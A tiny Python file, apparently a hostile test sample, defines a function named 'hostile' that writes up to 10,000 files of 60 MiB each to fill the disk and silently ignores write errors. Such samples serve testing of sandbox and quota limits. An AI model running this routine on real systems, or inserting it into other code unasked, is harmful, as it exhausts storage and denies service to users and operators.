"""Writes file after file."""


def hostile(*arguments, **options):
    for number in range(10_000):
        try:
            with open(f"{number}.bin", "wb") as file:
                for _ in range(60):
                    file.write(b"\1" * 2**20)
        except OSError:
            continue
    return 0
